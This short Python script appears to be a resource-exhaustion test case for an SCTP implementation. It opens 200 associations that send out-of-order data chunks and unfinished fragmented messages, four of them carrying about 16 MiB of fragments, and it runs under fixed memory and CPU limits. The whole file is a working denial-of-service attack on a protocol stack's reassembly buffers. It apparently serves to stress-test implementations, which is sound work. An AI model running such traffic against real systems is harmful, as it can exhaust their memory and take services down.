"""Associations that stay: each sends one byte as far ahead as it may, and the beginning of a message that
never ends; of some of these there are 16 MiB."""
from attack import main
from sctp import Peer, data

COUNT = 200
LONG = 4
PIECES = 16 * 1024 * 1024 // 1400


def play(victim):
    peer = Peer()
    for n in range(COUNT):
        peer.become(n)
        peer.connect()
        peer.send(data(peer.first, b"x" * 1000, flags=2))
        peer.send(data(peer.first + 65_534, b"x", ssn=1))
        peer.drain()
        for piece in range(1, PIECES if n < LONG else 0):
            peer.send(data(peer.first + piece, b"x" * 1400, flags=0))
            if piece % 32 == 0:
                peer.drain()
    return COUNT + LONG * PIECES


# Whoever echoes what it reads of the long ones is refused some 40 000 times, since none of it is acknowledged.
# On a slow machine that takes eleven seconds.
main(play, memory=96, most=128, cpu=16)
